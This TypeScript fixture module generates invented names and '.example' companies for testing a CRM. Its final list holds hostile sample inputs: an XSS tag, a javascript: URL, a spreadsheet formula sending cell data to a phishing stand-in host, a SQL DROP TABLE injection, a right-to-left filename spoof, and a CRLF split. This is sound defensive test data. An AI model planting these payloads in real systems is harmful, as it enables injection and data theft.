/** Names that nobody can mistake for real ones: machine parts and words for "example". */
const GIVEN = [
  'Axle',
  'Bearing',
  'Bolt',
  'Bracket',
  'Cam',
  'Clutch',
  'Cog',
  'Crank',
  'Dowel',
  'Dynamo',
  'Flange',
  'Gasket',
  'Gimbal',
  'Grommet',
  'Hinge',
  'Lever',
  'Lidar',
  'Piston',
  'Pulley',
  'Ratchet',
  'Relay',
  'Rivet',
  'Rotor',
  'Servo',
  'Shim',
  'Sprocket',
  'Stator',
  'Torque',
  'Valve',
  'Washer',
  'Widget',
  'Winch',
] as const;
const FAMILY = [
  'Beispiel',
  'Demoson',
  'Dummybauer',
  'Ejemplo',
  'Eksempel',
  'Esempio',
  'Esimerkki',
  'Exampleton',
  'Exempel',
  'Fauxworth',
  'Fictiveson',
  'Ipsumsen',
  'Loremsson',
  'Madeup',
  'Mockford',
  'Musterfrau',
  'Mustermann',
  'Nullvik',
  'Placeholder',
  'Sampleton',
  'Specimen',
  'Testerman',
  'Testvik',
  'Voorbeeld',
] as const;

const PLACES = [
  'Amberfield',
  'Birchgate',
  'Coppermill',
  'Driftwood',
  'Eastquay',
  'Fernhollow',
  'Greywater',
  'Highmoor',
  'Ironbrook',
  'Juniper Point',
  'Kestrel Bay',
  'Larkspur',
  'Millstone',
  'Northfen',
  'Oakhaven',
  'Pinecrest',
  'Quarrybank',
  'Ravenscar',
  'Saltmarsh',
  'Thornbury Vale',
  'Umberside',
  'Violet Hill',
  'Westerley',
  'Yarrow',
] as const;
const TRADES = [
  'Cold Store',
  'Depots',
  'Distribution',
  'Freight',
  'Fulfilment',
  'Grocers',
  'Hardware',
  'Logistics',
  'Parcels',
  'Pharma Supply',
  'Retail',
  'Storage',
  'Textiles',
  'Tools',
  'Warehousing',
  'Wholesale',
] as const;

export interface Company {
  name: string;
  domain: string;
}

/** 384 invented companies; their mail domains end in `.example`, which is reserved (RFC 2606). */
export const COMPANIES: readonly Company[] = PLACES.flatMap((place) =>
  TRADES.map((trade) => ({
    name: `${place} ${trade}`,
    domain: `${`${place} ${trade}`.toLowerCase().replaceAll(' ', '-')}.example`,
  })),
);

/** 768 invented names. */
export const NAMES: readonly string[] = GIVEN.flatMap((given) => FAMILY.map((family) => `${given} ${family}`));

/** Company names that an attacker, or a careless import, might leave in a CRM. All must stay plain text. */
export const HOSTILE_COMPANIES = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("https://phish.example/?"&A1,"Open")',
  'javascript:alert(document.domain)',
  `"; DROP TABLE persons; -- O'Brien, "Quoted" & Sons`,
  '\u202Etxt.exe\u202C \u0645\u062B\u0627\u0644 GmbH',
  'Two\r\nlines, one "field"',
] as const;
